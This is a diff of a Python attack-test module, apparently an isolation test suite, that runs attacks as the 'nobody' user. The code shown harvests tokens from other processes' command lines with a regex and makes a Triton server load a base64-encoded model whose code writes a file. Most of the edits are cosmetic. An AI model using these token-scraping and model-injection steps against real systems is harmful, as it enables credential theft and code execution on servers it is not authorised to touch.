@@ -1,4 +1,7 @@
-"""Attacks on a process of this machine by another of its users: `as_nobody(attack, ...)` runs one as `nobody`."""
+"""Attacks on a process by another user of this machine.
+
+`as_nobody(attack, ...)` runs an attack as `nobody`.
+"""
 
 from __future__ import annotations
 
@@ -21,7 +24,7 @@ CONFIG = {
 
 
 def as_nobody(attack: str, *arguments: object):
-    """Run a function of this file as nobody; arguments and result go through JSON."""
+    """Run a function of this file as nobody; pass arguments and result as JSON."""
     command = [sys.executable, "-S", __file__, attack, json.dumps(arguments)]
     done = subprocess.run(command, capture_output=True, text=True, timeout=120)
     assert done.returncode == 0, done.stderr
@@ -32,16 +35,19 @@ def load_model(pids: list[int], places: list[str | int], written: str) -> dict[s
     """Make Triton load a model whose code writes the file `written`.
 
     Args:
-        pids: processes whose command lines may hold a token.
+        pids: processes whose command lines may contain a token.
         places: TCP ports and Unix sockets that may be Triton's.
 
     Returns:
-        the tokens found, and each place's answer.
+        the tokens, and the answer of each place.
     """
     secrets = {
-        found for pid in pids for found in re.findall(r"[\w-]*token=[^\0,]{8,}", _command_line(pid))
+        secret
+        for pid in pids
+        for secret in re.findall(r"[\w-]*token=[^\0,]{8,}", _command_line(pid))
     }
-    code = f"open({written!r}, 'w')\nclass TritonPythonModel:\n    def execute(self, requests):\n        return []\n"
+    code = f"open({written!r}, 'w')\n"
+    code += "class TritonPythonModel:\n    def execute(self, requests):\n        return []\n"
     encoded = base64.b64encode(code.encode()).decode()
     body = json.dumps({"parameters": {"config": json.dumps(CONFIG), "file:1/model.py": encoded}})
     answers = []
